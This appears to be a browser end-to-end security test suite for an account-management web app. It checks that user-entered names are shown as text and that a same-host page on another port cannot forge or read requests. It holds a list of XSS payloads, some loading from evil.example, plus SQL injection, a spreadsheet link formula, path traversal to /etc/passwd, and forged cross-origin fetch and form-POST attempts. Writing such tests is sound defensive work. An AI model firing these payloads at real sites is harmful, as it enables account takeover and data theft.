// What somebody who means harm types into a field, and what a page of his does: names that
// would be scripts, and requests from another port of the same host, which sends the cookie.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { base, call, newAccount, start } from './lib.mjs';

const WORDS = [
	'<script>window.struck=1</script>',
	'"><script src=//evil.example/x.js></script>',
	'<img src=x onerror=window.struck=1>',
	'"><img src=//evil.example/x.png onerror="window.struck=1">',
	"' onmouseover=window.struck=1 autofocus onfocus=window.struck=1 x='",
	'<svg/onload=window.struck=1>',
	'<svg><animate onbegin=window.struck=1 attributeName=x dur=1s>',
	'<iframe srcdoc="<script>parent.struck=1</script>">',
	'<iframe src=javascript:parent.struck=1>',
	'<a href="javascript:window.struck=1">go</a>',
	'javascript:window.struck=1',
	'</title><script>window.struck=1</script>',
	'</textarea><script>window.struck=1</script>',
	'--><script>window.struck=1</script><!--',
	']]><script>window.struck=1</script>',
	'<details open ontoggle=window.struck=1>',
	'<style>@import "//evil.example/x.css"</style>',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=//evil.example/">',
	'<form action=//evil.example/><button autofocus>',
	'{{constructor.constructor("window.struck=1")()}}',
	'${window.struck=1}',
	'&lt;script&gt;window.struck=1&lt;/script&gt;',
	'%3Cscript%3Ewindow.struck=1%3C/script%3E',
	'\\u003cscript\\u003ewindow.struck=1\\u003c/script\\u003e',
	'__proto__',
	'constructor',
	"Robert'); DROP TABLE account; --",
	'=HYPERLINK("http://evil.example/","x")',
	'../../../../etc/passwd',
];

let all;
let tab;
let page;
let account;
const asked = [];

before(async () => {
	all = await start();
	tab = await all.open();
	page = tab.page;
	page.on('dialog', (dialog) => {
		tab.wrong.push(`dialog: ${dialog.message()}`);
		dialog.dismiss();
	});
	page.on('request', (request) => asked.push(request.url()));
});
after(() => all?.close());

/** Nothing of it ran, loaded or became part of the page. */
async function unharmed(where) {
	const state = await page.evaluate(() => ({
		struck: window.struck,
		odd: [...document.querySelectorAll('script, iframe, base, meta[http-equiv=refresh], [onerror], [onload], [onfocus], [href^="javascript:" i]')]
			.map((node) => node.outerHTML)
			.filter((html) => /struck|evil/.test(html)),
	}));
	assert.deepEqual(state, { struck: undefined, odd: [] }, where);
	const elsewhere = asked.filter((url) => !url.startsWith(base) && !/^(data|blob|about):/.test(url));
	assert.deepEqual(elsewhere, [], where);
	// What is no id or no question is refused.
	await tab.clean([/404|422/]);
}

const shown = async (selector) => {
	const text = await page.locator(selector).first().evaluate((node) => node.textContent);
	return WORDS.filter((word) => !text.includes(word));
};

test('names that are scripts are shown as they are, on every page', { timeout: 300_000 }, async () => {
	account = await newAccount(tab.context, { name: WORDS[3] });
	// What turns text round is shown by its number.
	const turned = await newAccount(tab.context, { name: '\u202Egnp.exe\u2066 and more' });
	await tab.goto(`#/accounts/${turned.id}/overview`);
	assert.match(await page.textContent('.acc-name'), /⟨U\+202E⟩gnp\.exe⟨U\+2066⟩ and more/);
	assert.doesNotMatch(await page.evaluate(() => document.documentElement.outerHTML), /[\u202A-\u202E\u2066-\u2069]/);
	const path = `accounts/${account.id}`;
	const made = async (where, body) => {
		const answer = await call(tab.context, 'POST', where, body);
		assert.equal(answer.status, 201, `${JSON.stringify(body)}: ${JSON.stringify(answer.body)}`);
		return answer.body;
	};
	const [role] = (await call(tab.context, 'GET', `${path}/roles`)).body.items.filter((one) => one.builtin === 'customer-member');
	const members = [];

	for (const [i, word] of WORDS.entries()) {
		await made(`${path}/contacts`, { role: 'technical', name: word, note: word });
		await made(`${path}/sites`, { kind: 'building', name: word, city: word.slice(0, 60) });
		members.push(await made(`${path}/members`, {
			email: `h${i}.${Date.now().toString(36)}@example.org`, name: word, kind: 'staff', role_id: role.id,
		}));
	}
	const mine = await made(`${path}/roles`, { name: WORDS[0], description: WORDS[2], permissions: [] });
	await made(`${path}/holds`, { kind: 'admin', reason_code: 'other', reason_text: WORDS[5], module: 'cameras' });
	for (const [hash, selector] of [
		[`#/${path}/overview`],
		[`#/${path}/profile`, '.acc-main'],
		[`#/${path}/sites`, '.acc-main'],
		[`#/${path}/users`],
		[`#/${path}/users?user=${members[2].id}`],
		[`#/${path}/access?member=${members[5].id}`],
		[`#/${path}/roles?role=${mine.id}`],
		[`#/${path}/life-cycle`],
		[`#/${path}/changes`],
		['#/customers'],
		[`#/customers?q=${encodeURIComponent(WORDS[0])}`],
		[`#/people?q=${encodeURIComponent(WORDS[2])}`],
		[`#/people/${members[3].person_id}`],
		['#/changes'],
		['#/mails'],
		[`#/problems/${encodeURIComponent(WORDS[2])}`],
		[`#/${encodeURIComponent(WORDS[5])}`],
		[`#/accounts/${encodeURIComponent(WORDS[4])}/overview`],
	]) {
		await page.goto('about:blank');
		await tab.goto(hash);
		if (selector) assert.deepEqual(await shown(selector), [], hash);
		await unharmed(hash);
	}
	await page.keyboard.press('Control+k');
	await page.keyboard.type('script onerror');
	await page.waitForTimeout(500);
	await unharmed('the palette');
});

test('a page of the same host on another port changes nothing and reads nothing', async (t) => {
	const evil = http.createServer((request, response) => {
		response.setHeader('content-type', 'text/html');
		response.end('<!doctype html><title>evil</title><p>evil');
	});
	evil.listen(0, new URL(base).hostname);
	await once(evil, 'listening');
	t.after(() => {
		evil.closeAllConnections();
		evil.close();
	});
	const theirs = await tab.context.newPage();
	const answers = [];

	theirs.on('response', (response) => {
		if (response.url().startsWith(base)) answers.push({ what: `${response.request().method()} ${response.url()}`, status: response.status() });
	});
	await theirs.goto(`http://${new URL(base).hostname}:${evil.address().port}/`);
	// The browser does send the cookie there: the host is the same.
	const sent = await tab.context.cookies(base);
	assert.ok(sent.some((cookie) => /gatehouse/.test(cookie.name)));
	const body = JSON.stringify({ parent_id: 'acc_0000000000001', kind: 'customer', class: 'person', name: 'Forged' });
	const read = await theirs.evaluate(
		async ([to, text]) => {
			const tried = async (path, options) => {
				try {
					const answer = await fetch(to + path, { credentials: 'include', ...options });
					return answer.type === 'opaque' ? 'opaque' : await answer.text();
				} catch {
					// Also where nobody wants to read: no answer is for other pages.
					return 'refused';
				}
			};
			const json = { 'content-type': 'application/json', 'idempotency-key': 'forged-1' };
			const results = [
				await tried('api/v1/session'),
				await tried('api/v1/accounts', { method: 'POST', body: text, headers: json }),
				await tried('api/v1/accounts', { method: 'POST', body: text, headers: { 'content-type': 'text/plain' } }),
				await tried('api/v1/accounts', { method: 'POST', body: text, mode: 'no-cors' }),
				await tried('api/v1/session', { method: 'DELETE' }),
				await tried('export/v1/accounts.csv', { mode: 'no-cors' }),
			];
			for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
				const form = Object.assign(document.createElement('form'), { method: 'post', action: `${to}api/v1/accounts`, enctype: type, target: 'into' });
				form.append(Object.assign(document.createElement('input'), { name: text.slice(0, -1), value: '}' }));
				document.body.append(Object.assign(document.createElement('iframe'), { name: 'into' }), form);
				form.submit();
				await new Promise((done) => setTimeout(done, 200));
			}
			const frame = Object.assign(document.createElement('iframe'), { src: to });
			document.body.append(frame);
			await new Promise((done) => frame.addEventListener('load', done));
			return results;
		},
		[base, body],
	);

	assert.deepEqual([...new Set(read)], ['refused']);
	const api = answers.filter((one) => /\/(api|export)\//.test(one.what));
	// Of what is asked by a script not even the status is shown there.
	assert.deepEqual(api.map((one) => one.status), [403, 403, 403], JSON.stringify(answers));
	assert.ok(theirs.frames().some((frame) => /^chrome-error:/.test(frame.url())), theirs.frames().map((frame) => frame.url()).join(' '));
	assert.equal((await call(tab.context, 'GET', 'accounts?q=Forged&limit=10')).body.items.length, 0);
	assert.equal((await call(tab.context, 'GET', 'session')).status, 200, 'nobody was signed out');
	await theirs.close();
});

test('who signs out leaves nothing of what he saw', async () => {
	const own = await start();
	const left = await own.open();
	await left.goto(`#/accounts/${account.id}/overview`);
	await left.goto('#/customers');
	assert.ok((await left.page.content()).includes(account.id), 'he saw it');
	await left.page.locator('.person-btn:visible').click();
	await left.page.locator('[role=menuitem]', { hasText: 'Sign out' }).click();
	await left.page.waitForSelector('input[name=password]');
	const kept = await left.page.evaluate(async () =>
		JSON.stringify([{ ...localStorage }, { ...sessionStorage }, await caches.keys(), (await indexedDB.databases()).length, document.documentElement.outerHTML]));
	assert.ok(!kept.includes(account.id) && !kept.includes('evil.example'), kept.slice(0, 2000));
	await left.page.goBack();
	await left.page.waitForSelector('input[name=password]');
	assert.ok(!(await left.page.content()).includes(account.id));
	await left.context.close();
	await own.close();
});
